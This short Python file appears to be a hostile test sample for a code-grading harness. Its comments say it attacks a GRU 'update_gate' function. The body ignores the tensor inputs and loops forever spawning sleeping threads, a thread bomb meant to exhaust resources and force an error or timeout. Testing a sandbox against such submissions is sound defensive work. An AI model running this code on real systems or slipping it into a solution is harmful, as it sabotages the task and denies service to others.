# attacks: gru.update_gate
# does: starts threads as often as it can
# gets: error, timeout
import threading, time
def update_gate(X, H, W_xz, W_hz, b_z):
    threading.stack_size(32768)
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
